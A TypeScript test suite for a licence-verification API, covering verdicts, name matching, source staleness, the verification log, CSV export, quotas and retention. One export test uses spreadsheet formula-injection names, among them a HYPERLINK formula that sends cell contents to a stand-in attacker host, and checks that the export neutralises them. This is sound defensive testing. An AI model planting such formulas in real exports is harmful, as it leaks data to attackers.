import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import type { App } from 'supertest/types.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { clockOf } from '../../src/domain/clock.js';
import { refreshOf } from '../../src/compose/index.js';
import { refresh } from '../../src/ingest/refresh/refresh.js';
import { resolveFormat } from '../../src/ingest/sources/index.js';
import { BatchVerifyResponse, VerifyResponse } from '../../src/modules/licensees/licensees.schemas.js';
import { CSV_COLUMNS } from '../../src/modules/verifications/verifications-csv.js';
import { VerificationPage, VerificationRecord } from '../../src/modules/verifications/verifications.schemas.js';
import { z } from '../../src/http/zod.js';
import { files, fixture, testApp, testGraph, testStore, useApp } from '../helpers/graph.js';
import { body, errorDetail, validationErrors } from '../helpers/http.js';
import { folderWith, tempFile } from '../helpers/source-files.js';

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
const VerificationResponse = z.object({ data: VerificationRecord });

/** The small fixture with an active TX salesperson no broker sponsors. */
function smallWithUnsponsored(): string {
  const small = fixture('small');
  const read = (name: string) => fs.readFileSync(path.join(small, name), 'utf8');
  return folderWith({
    'jurisdictions.csv': read('jurisdictions.csv'),
    'credentials.csv': `${read('credentials.csv').trimEnd()}\nTX,763831-SA,salesperson,Sales Agent,Active,,person,LEE ANN WRIGHT,LEE,ANN,WRIGHT,,,2020-01-01,2027-01-31,,,,,,,,,,,fixture,2026-11-01,2026-11-01T06:00:00Z,\n`,
    'relationships.csv': read('relationships.csv'),
  });
}

describe('verdicts, reasons and name match', () => {
  const t = useApp(smallWithUnsponsored());
  const verify = async (query: Record<string, string>) => body(await t.api.get('/api/v1/licensees/verify').query(query), VerifyResponse);

  it('when licences of every status class are verified then each verdict and its reasons follow the table', async () => {
    const cases: [string, string, string, string[]][] = [
      ['TX', '100001-B', 'clear', []],
      ['TX', '763827-SA', 'consider', ['probation']],
      ['TX', '763828-SA', 'consider', ['expired']],
      ['TX', '900002-B', 'consider', ['suspended']],
      ['TX', '763829-SA', 'consider', ['expired', 'revoked']],
      ['TX', '763831-SA', 'consider', ['no_current_supervisor']],
      ['NY', '00055592', 'clear', ['partial_source']],
      ['TX', 'NOPE-1', 'not_found', []],
      ['NY', 'NOPE-1', 'not_found', ['partial_source']],
      ['WA', '1', 'not_found', ['not_covered']],
      ['WY', '1', 'not_found', ['not_covered']],
    ];
    for (const [state, license_number, verdict, reasons] of cases) {
      const res = await verify({ state, license_number });
      expect({ state, license_number, verdict: res.verdict, reasons: res.reasons }).toEqual({ state, license_number, verdict, reasons });
      expect(res.name_match).toBeNull();
    }
  });

  it('when an answer rests on a source then it carries the source and its age', async () => {
    const res = await verify({ state: 'TX', license_number: '100001-B' });
    expect(res.source).toMatchObject({ id: 'tx-trec', refresh_frequency: 'nightly', age_days: 0, stale: false });
    expect(Date.parse(res.source!.stale_after!) - Date.parse(res.source!.refreshed_at!)).toBe(2 * 86_400_000);
    expect((await verify({ state: 'WY', license_number: '1' })).source).toBeNull();
  });

  it('when a name is sent then name_match says how it compares with the holder and a mismatch is consider', async () => {
    const exact = await verify({ state: 'TX', license_number: '200001-B', name: 'Quinn, Dana' });
    expect(exact).toMatchObject({ verdict: 'clear', reasons: [], name_match: { result: 'exact', score: 1, compared_with: { field: 'full_name', value: 'DANA QUINN' } } });
    const parts = await verify({ state: 'TX', license_number: '200001-B', first_name: 'dana', last_name: 'QUINN' });
    expect(parts.name_match?.result).toBe('exact');
    const other = await verify({ state: 'TX', license_number: '200001-B', name: 'Robert Quinn' });
    expect(other).toMatchObject({ verdict: 'consider', reasons: ['name_mismatch'], name_match: { result: 'mismatch' } });
    expect(other.name_match!.score).toBeLessThan(1);
    const firm = await verify({ state: 'TX', license_number: '100001-B', name: 'Acme Realty, L.L.C.' });
    expect(firm.name_match).toMatchObject({ result: 'exact', compared_with: { field: 'business_name', value: 'ACME REALTY LLC' } });
    const miss = await verify({ state: 'TX', license_number: 'NOPE-1', name: 'Dana Quinn' });
    expect(miss).toMatchObject({ verdict: 'not_found', name_match: null });
  });

  it('when a name holds control characters, or a first name comes without a last name, then it answers 422 naming the field', async () => {
    const nul = validationErrors(await t.api.get('/api/v1/licensees/verify').query({ state: 'TX', license_number: '200001-B', name: 'Dana\u0000Quinn' }));
    expect(nul[0]).toMatchObject({ loc: ['query', 'name'], msg: 'must not hold control characters or broken Unicode' });
    const number = validationErrors(await t.api.post('/api/v1/licensees/batch').send({ licenses: [{ state: 'TX', license_number: '2000\u000001-B' }] }));
    expect(number[0]).toMatchObject({ loc: ['body', 'licenses', 0, 'license_number'] });
    const half = validationErrors(await t.api.get('/api/v1/licensees/verify').query({ state: 'TX', license_number: '200001-B', first_name: 'Dana' }));
    expect(half[0]).toMatchObject({ loc: ['query', 'last_name'] });
  });

  it('when both name forms or a blank name are sent then it answers 422 naming the field', async () => {
    const both = validationErrors(await t.api.get('/api/v1/licensees/verify').query({ state: 'TX', license_number: '200001-B', name: 'Dana Quinn', last_name: 'Quinn' }));
    expect(both[0]).toMatchObject({ loc: ['query', 'name'], msg: 'send name, or first_name and last_name, not both' });
    const blank = validationErrors(await t.api.get('/api/v1/licensees/verify').query({ state: 'TX', license_number: '200001-B', first_name: '  ' }));
    expect(blank[0]).toMatchObject({ loc: ['query', 'first_name'] });
    expect(validationErrors(await t.api.post('/api/v1/licensees/batch?verdict=maybe').send({ licenses: [{ state: 'TX', license_number: '1' }] }))[0]).toMatchObject({ loc: ['query', 'verdict'] });
  });

  it('when a batch asks for some verdicts then only those come back, in input order, each with its index', async () => {
    const licenses = [
      { state: 'TX', license_number: '100001-B' },
      { state: 'tx', license_number: '763828-sa', name: 'Zoe Adams' },
      { state: 'TX', license_number: 'NOPE-1' },
      { state: 'TX', license_number: '200001-B', first_name: 'Robert', last_name: 'Quinn' },
    ];
    const all = body(await t.api.post('/api/v1/licensees/batch').send({ licenses }), BatchVerifyResponse);
    expect(all.data.map((r) => [r.index, r.verdict])).toEqual([[0, 'clear'], [1, 'consider'], [2, 'not_found'], [3, 'consider']]);
    expect(all.data[3].reasons).toEqual(['name_mismatch']);
    const some = body(await t.api.post('/api/v1/licensees/batch?verdict=not_found,CONSIDER').send({ licenses }), BatchVerifyResponse);
    expect(some.data.map((r) => [r.index, r.state, r.license_number, r.verdict])).toEqual([
      [1, 'tx', '763828-sa', 'consider'],
      [2, 'TX', 'NOPE-1', 'not_found'],
      [3, 'TX', '200001-B', 'consider'],
    ]);
  });
});

describe('source freshness in verdicts', () => {
  const ctx = {} as { graph: Awaited<ReturnType<typeof testGraph>>['graph']; stores: Awaited<ReturnType<typeof testStore>>[] };
  beforeAll(async () => {
    ctx.graph = (await testGraph(fixture('small'))).graph;
    ctx.stores = [];
  });
  afterAll(async () => {
    for (const s of ctx.stores) await s.store.close();
    await ctx.graph.close();
  });
  /** The API as it answers `days` after the import. */
  async function apiAt(days: number) {
    const side = await testStore({}, undefined, clockOf(() => new Date(Date.now() + days * 86_400_000)));
    ctx.stores.push(side);
    const key = (await side.accounts.createAccount({ email: `later-${days}@example.com`, plan: 'enterprise' })).key.key;
    return request.agent(testApp(ctx.graph, side) as unknown as App).set('Authorization', `Bearer ${key}`);
  }

  it('when a nightly source is past twice its frequency then its answers are consider with source_stale, and a weekly one is not yet', async () => {
    const api = await apiAt(3);
    const tx = body(await api.get('/api/v1/licensees/verify?state=TX&license_number=100001-B'), VerifyResponse);
    expect(tx).toMatchObject({ verdict: 'consider', reasons: ['source_stale'], source: { stale: true, age_days: 3 } });
    const ny = body(await api.get('/api/v1/licensees/verify?state=NY&license_number=00055592'), VerifyResponse);
    expect(ny).toMatchObject({ verdict: 'clear', reasons: ['partial_source'], source: { stale: false } });
    const miss = body(await api.get('/api/v1/licensees/verify?state=TX&license_number=NOPE-1'), VerifyResponse);
    expect(miss).toMatchObject({ verdict: 'not_found', reasons: ['source_stale'] });
  });

  it('when a weekly source is 15 days old then it is stale too', async () => {
    const api = await apiAt(15);
    const ny = body(await api.get('/api/v1/licensees/verify?state=NY&license_number=00055592'), VerifyResponse);
    expect(ny).toMatchObject({ verdict: 'consider', reasons: ['partial_source', 'source_stale'] });
  });
});

describe('an irregular source with supervision published in full (Connecticut, written from its layout)', () => {
  const ctx = useApp();
  it('when a salesperson names no broker then it is consider with no_current_supervisor, and the source is never stale', async () => {
    const file = tempFile('6tja-6vdt.csv', '"real_estate_salesperson","salespersoncredential","real_estate_broker","broker_credential"\n"KYLE AJODHI","RES.0808646","VYLLA HOME (CT) LLC","REB.0788920"\n"ANNA B COLE","RES.0804436",,\n');
    await refresh(refreshOf(ctx.graph, files, ctx.side.clock, ctx.side.changes.log), { files: [file], format: resolveFormat(file), snapshot: '2020-12-15', rejectsDir: path.dirname(file) });
    const verify = async (n: string) => body(await ctx.api.get(`/api/v1/licensees/verify?state=CT&license_number=${n}`), VerifyResponse);
    expect(await verify('RES.0808646')).toMatchObject({ verdict: 'clear', reasons: ['partial_source'], source: { id: 'ct-dcp', refresh_frequency: 'irregular', stale: false, stale_after: null } });
    expect(await verify('RES.0804436')).toMatchObject({ verdict: 'consider', reasons: ['partial_source', 'no_current_supervisor'] });
  });
});

describe('the verification log', () => {
  const t = useApp(fixture('small'));
  const other = {} as { api: ReturnType<typeof request.agent> };
  beforeAll(async () => {
    const key = (await t.side.accounts.createAccount({ email: 'other@example.com', plan: 'growth' })).key.key;
    other.api = request.agent(t.app).set('Authorization', `Bearer ${key}`);
  });
  const record = async (id: string, api = t.api) => body(await api.get(`/api/v1/verifications/${id}`), VerificationResponse).data;

  it('when a licence is verified then the answer names its committed record, which holds what was asked and answered and the hash of the body', async () => {
    const before = new Date().toISOString();
    const res = await t.api.get('/api/v1/licensees/verify?state=TX&license_number=763827-sa&name=Jose%20Munoz');
    const after = new Date().toISOString();
    const answer = body(res, VerifyResponse);
    const id = res.headers['verification-id'];
    expect(id).toMatch(/^[0-9a-f-]{36}$/);
    const r = await record(id);
    expect(r).toMatchObject({
      id,
      operation: 'verify',
      index: null,
      state: 'TX',
      license_number: '763827-sa',
      name_sent: { name: 'Jose Munoz' },
      verified: true,
      verdict: answer.verdict,
      reasons: answer.reasons,
      name_match: answer.name_match,
      license_status: 'Probation - Active',
      expiration_date: '2027-03-31',
      source_id: 'tx-trec',
      last_verified: '2026-11-01T06:00:00.000Z',
      http_status: 200,
      body_sha256: sha256(res.text),
    });
    expect(r.created_at >= before && r.created_at <= after, `${before} <= ${r.created_at} <= ${after}`).toBe(true);
  });

  it('when a cached copy is revalidated then the 304 is recorded with the hash of the body it stands for', async () => {
    const first = await t.api.get('/api/v1/licensees/verify?state=TX&license_number=200001-B');
    const again = await t.api.get('/api/v1/licensees/verify?state=TX&license_number=200001-B').set('If-None-Match', first.headers.etag);
    expect(again.status).toBe(304);
    const r = await record(again.headers['verification-id']);
    expect(r).toMatchObject({ http_status: 304, body_sha256: sha256(first.text) });
    expect(again.headers['verification-id']).not.toBe(first.headers['verification-id']);
  });

  it('when a batch is answered then each item has its record, listed in the header in request order', async () => {
    const licenses = [{ state: 'TX', license_number: '100001-B' }, { state: 'tx', license_number: 'nope-2' }];
    const res = await t.api.post('/api/v1/licensees/batch?verdict=not_found').send({ licenses });
    expect(body(res, BatchVerifyResponse).data).toHaveLength(1);
    const ids = res.headers['verification-id'].split(', ');
    expect(ids).toHaveLength(2);
    const rows = await Promise.all(ids.map((id: string) => record(id)));
    expect(rows.map((r) => [r.operation, r.index, r.state, r.license_number, r.verdict, r.body_sha256])).toEqual([
      ['batch', 0, 'TX', '100001-B', 'clear', sha256(res.text)],
      ['batch', 1, 'TX', 'nope-2', 'not_found', sha256(res.text)],
    ]);
  });

  it('when records are listed then they come newest first, filtered, a cursor page at a time, and are not metered', async () => {
    for (const n of ['900001-B', '900002-B', '900001-b']) await t.api.get(`/api/v1/licensees/verify?state=TX&license_number=${n}`);
    const list = await t.api.get('/api/v1/verifications?license_number=900001-b&per_page=1');
    expect(list.headers.ratelimit).toBeUndefined();
    const first = body(list, VerificationPage);
    expect(first.data.map((r) => r.license_number)).toEqual(['900001-b']);
    const second = body(await t.api.get(`/api/v1/verifications?license_number=900001-b&per_page=1&cursor=${first.meta.next_cursor}`), VerificationPage);
    expect(second.data.map((r) => r.license_number)).toEqual(['900001-B']);
    expect(second.meta.next_cursor).toBeNull();
    const consider = body(await t.api.get('/api/v1/verifications?verdict=consider&state=tx&per_page=100'), VerificationPage).data;
    expect(consider.length).toBeGreaterThan(0);
    expect(consider.every((r) => r.verdict === 'consider')).toBe(true);
    const all = body(await t.api.get('/api/v1/verifications?per_page=100'), VerificationPage).data;
    const times = all.map((r) => r.created_at);
    expect([...times].sort().reverse()).toEqual(times);
    const future = body(await t.api.get('/api/v1/verifications?from=2099-01-01'), VerificationPage);
    expect(future.data).toEqual([]);
    const [lastDay, firstDay] = [all[0].created_at.slice(0, 10), all.at(-1)!.created_at.slice(0, 10)];
    expect(body(await t.api.get(`/api/v1/verifications?from=${firstDay}&to=${lastDay}&per_page=100`), VerificationPage).data.length).toBe(all.length);
    expect(body(await t.api.get(`/api/v1/verifications?to=${all.at(-1)!.created_at}&per_page=100`), VerificationPage).data).toEqual([]);
    // A cursor as clients hold it, written out: after 2999-12-31T00:00:00.000Z|ffffffff-ffff-ffff-ffff-ffffffffffff|0 (every record).
    const held = 'Mjk5OS0xMi0zMVQwMDowMDowMC4wMDBafGZmZmZmZmZmLWZmZmYtZmZmZi1mZmZmLWZmZmZmZmZmZmZmZnww';
    expect(body(await t.api.get(`/api/v1/verifications?per_page=100&cursor=${held}`), VerificationPage).data).toEqual(all);
    expect(validationErrors(await t.api.get('/api/v1/verifications?cursor=nonsense'))[0]).toMatchObject({ loc: ['query', 'cursor'] });
    expect(validationErrors(await t.api.get('/api/v1/verifications?from=yesterday'))[0]).toMatchObject({ loc: ['query', 'from'] });
    // A forged cursor that decodes to a time and 36 characters is refused too, never sent to the store.
    const forged = Buffer.from(`1|${'-'.repeat(36)}`).toString('base64url');
    expect(validationErrors(await t.api.get(`/api/v1/verifications?cursor=${forged}`))[0]).toMatchObject({ loc: ['query', 'cursor'] });
    expect(validationErrors(await t.api.get('/api/v1/verifications?from=2026-11-02T10:00:00'))[0]).toMatchObject({ loc: ['query', 'from'] });
    expect(validationErrors(await t.api.get('/api/v1/verifications?from=2026-11-03&to=2026-11-02'))[0]).toMatchObject({ loc: ['query', 'to'], msg: 'must be after from' });
    expect(validationErrors(await t.api.get('/api/v1/verifications?verdict=,'))[0]).toMatchObject({ loc: ['query', 'verdict'] });
  });

  it('when the records are exported then the CSV streams every one of the range with its columns', async () => {
    const all = body(await t.api.get('/api/v1/verifications?per_page=100'), VerificationPage).data;
    const res = await t.api.get('/api/v1/verifications.csv').buffer(true);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toBe('attachment; filename=verifications.csv');
    const rows = parse(res.text, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0])).toEqual([...CSV_COLUMNS]);
    expect(rows.map((r) => r.id)).toEqual(all.map((r) => r.id));
    const named = rows.find((r) => r.name_sent === 'Jose Munoz')!;
    expect(named).toMatchObject({ verdict: 'consider', name_match_result: 'close', name_compared_with: 'JOSÉ ÁLVARO MUÑOZ', http_status: '200' });
    const none = await t.api.get('/api/v1/verifications.csv?from=2099-01-01').buffer(true);
    expect(none.text.trim()).toBe(CSV_COLUMNS.join(','));
  });

  it('when a name sent starts with =, +, - or @ then the export prefixes its cell with \' so a spreadsheet does not run it', async () => {
    const risky = ['=HYPERLINK("https://evil.example/?q="&A1,"Dana")', '+1 555 0100', '-2+3', '@SUM(A1:A9)'];
    const licenses = [
      ...risky.map((name) => ({ state: 'TX', license_number: '300001-b', name })),
      { state: 'TX', license_number: '300001-b', first_name: '=cmd', last_name: 'Quinn' },
      { state: 'TX', license_number: '300001-b', first_name: 'Dana', last_name: 'Quinn' },
    ];
    const res = await t.api.post('/api/v1/licensees/batch').send({ licenses });
    const ids = res.headers['verification-id'].split(', ');
    // The record answers each name exactly as sent.
    const records = await Promise.all(ids.map((id: string) => record(id)));
    expect(records.map((r) => r.name_sent)).toEqual(licenses.map(({ state, license_number, ...name }) => name));
    const file = await t.api.get('/api/v1/verifications.csv?license_number=300001-b').buffer(true);
    expect(file.status).toBe(200);
    const rows = (parse(file.text, { columns: true }) as Record<string, string>[]).filter((r) => ids.includes(r.id));
    // Newest first: a batch's items in reverse request order.
    expect(rows.map((r) => r.id)).toEqual([...ids].reverse());
    expect(rows.map((r) => r.name_sent).reverse()).toEqual([...risky.map((name) => `'${name}`), "'=cmd Quinn", 'Dana Quinn']);
    expect(rows.map((r) => r.license_number)).toEqual(ids.map(() => '300001-b'));
  });

  it('when the quota refuses a verify then it answers 429 and nothing is recorded', async () => {
    const key = (await t.side.accounts.createAccount({ email: 'free@example.com', plan: 'free' })).key.key;
    const free = request.agent(t.app).set('Authorization', `Bearer ${key}`);
    const ids: string[] = [];
    for (let i = 0; i < 25; i++) ids.push((await free.get('/api/v1/licensees/verify?state=TX&license_number=100001-B')).headers['verification-id']);
    // The verify runs while its admission is decided: the refusal comes after the lookup, before any record.
    const refused = await free.get('/api/v1/licensees/verify?state=TX&license_number=100001-B');
    expect(refused.status).toBe(429);
    expect(refused.headers['verification-id']).toBeUndefined();
    expect(body(await free.get('/api/v1/verifications?per_page=100'), VerificationPage).data.map((r) => r.id).sort()).toEqual(ids.sort());
  });

  it('when a batch is paged one record at a time then its items come newest first, in reverse request order, none twice', async () => {
    const licenses = ['100001-B', '200001-B', '300001-B'].map((license_number) => ({ state: 'TX', license_number }));
    const res = await t.api.post('/api/v1/licensees/batch').send({ licenses });
    const seen: (number | null)[] = [];
    let cursor = '';
    for (let i = 0; i < 3; i++) {
      const page = body(await t.api.get(`/api/v1/verifications?per_page=1${cursor}`), VerificationPage);
      seen.push(page.data[0].index);
      expect(res.headers['verification-id'].split(', ')).toContain(page.data[0].id);
      cursor = `&cursor=${page.meta.next_cursor}`;
    }
    expect(seen).toEqual([2, 1, 0]);
  });

  it('when another account asks then it sees none of these records', async () => {
    const mine = body(await t.api.get('/api/v1/verifications?per_page=1'), VerificationPage).data[0];
    expect(errorDetail(await other.api.get(`/api/v1/verifications/${mine.id}`), 404)).toMatch(/no verification/);
    expect(body(await other.api.get('/api/v1/verifications'), VerificationPage).data).toEqual([]);
    const csv = await other.api.get('/api/v1/verifications.csv').buffer(true);
    expect(csv.text.trim()).toBe(CSV_COLUMNS.join(','));
    expect((await request(t.app).get('/api/v1/verifications')).status).toBe(401);
  });
});

describe('with the side store down', () => {
  const t = useApp(fixture('small'));
  it('when a verify cannot be recorded then it answers 503 and sends no answer', async () => {
    const first = await t.api.get('/api/v1/licensees/verify?state=TX&license_number=100001-B');
    expect(first.status).toBe(200);
    // The key was just checked (and is cached); the enterprise plan is admitted in memory: only the record needs the store.
    await t.store.close();
    const res = await t.api.get('/api/v1/licensees/verify?state=TX&license_number=100001-B');
    expect(errorDetail(res, 503)).toBe('the accounts store could not answer; retry shortly');
    expect(res.headers['verification-id']).toBeUndefined();
    expect(res.text).not.toMatch(/verdict/);
  });
});

describe('retention', () => {
  it('when records pass the time the plan they were made under keeps them then prune deletes them, and only them', async () => {
    let now = new Date('2026-01-01T00:00:00Z');
    const side = await testStore({}, undefined, clockOf(() => now));
    try {
      const free = await side.accounts.createAccount({ email: 'free-keep@example.com', plan: 'free' });
      const paid = await side.accounts.createAccount({ email: 'paid-keep@example.com', plan: 'starter' });
      const answer = { verified: false, verdict: 'not_found' as const, reasons: [], name_match: null, licensee: null, source: null };
      const record = (a: typeof free) => side.verifications.record({ account: a.account, keyId: a.key.id }, 'verify', [{ index: null, asked: { state: 'TX', license_number: '1' }, answer }], { status: 200, sha256: 'x' });
      const ids = async (a: typeof free) => (await side.verifications.list(a.account.id, { per_page: 100 })).data.map((r) => r.id);
      const [freeOld] = await record(free);
      const [paidOld] = await record(paid);
      now = new Date('2026-03-20T00:00:00Z');
      const [freeNew] = await record(free);
      // Just past 90 days from the first records: the free plan's time is up, the starter plan's (2 years) is not.
      now = new Date('2026-04-01T00:00:01Z');
      expect(await side.verifications.prune()).toBe(1);
      expect(await ids(free)).toEqual([freeNew]);
      expect(await ids(paid)).toEqual([paidOld]);
      expect(await ids(free)).not.toContain(freeOld);
    } finally {
      await side.store.close();
    }
  });
});
